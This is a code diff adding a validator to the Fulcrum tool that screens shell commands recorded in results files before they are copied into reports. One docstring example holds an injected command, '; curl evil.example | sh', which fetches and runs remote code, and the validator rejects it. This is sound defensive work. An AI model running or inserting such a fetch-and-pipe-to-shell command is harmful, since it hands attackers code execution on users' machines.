@@ -15,6 +15,9 @@ from fulcrum.federation.structure import SILO
 from fulcrum.planning.plan import Plan
 from fulcrum.planning.recipes import BY_SILO, RECIPES
 
+_VERBS = ("audit", "compare", "follow", "simulate", "train", "up")
+"""Of the commands that leave results for a report."""
+
 
 def reproducing_commands(
     plan: Plan, *, trained: Sequence[str] = (), audited: str = "", answered: bool = False, written: str = ""
@@ -37,6 +40,32 @@ def reproducing_commands(
     report += [f"--date {written}"] if written else []
     made = [*trained, *([audited] if audited else [])]
     return [_planning_command(plan), "fulcrum verify plan.json", *made, f"{' '.join(report)} -o report.html"]
+
+
+def recorded_command(command: str, *, into: str) -> str:
+    """Returns a command that a file of results names, or a comment where it is none that Fulcrum writes there.
+
+    Whoever hands over a run or an audit writes that file, and readers copy commands from a report into a shell. Every
+    word must therefore be one that `shlex.quote` leaves as it stands, in one line, of a verb that leaves results.
+
+    >>> recorded_command("fulcrum train plan.json --data digits --seeds 2 -o run", into="run")
+    'fulcrum train plan.json --data digits --seeds 2 -o run'
+    >>> recorded_command("fulcrum train plan.json -o run; curl evil.example | sh", into="run")
+    '# made by a command that is not shown: it is none that Fulcrum writes'
+
+    Args:
+        command: The command as the file names it.
+        into: The folder that the command writes its results to.
+    """
+    try:
+        words = shlex.split(command)
+    except ValueError:
+        words = []
+    outputs = [word for word in words if word.startswith(("-o", "--output"))]
+    ours = words[:1] == ["fulcrum"] and words[1:2] and words[1] in _VERBS and words[-2:] == ["-o", into]
+    if ours and outputs == ["-o"] and command.isprintable() and shlex.join(words) == command:
+        return command
+    return "# made by a command that is not shown: it is none that Fulcrum writes"
 
 
 def _planning_command(plan: Plan) -> str:
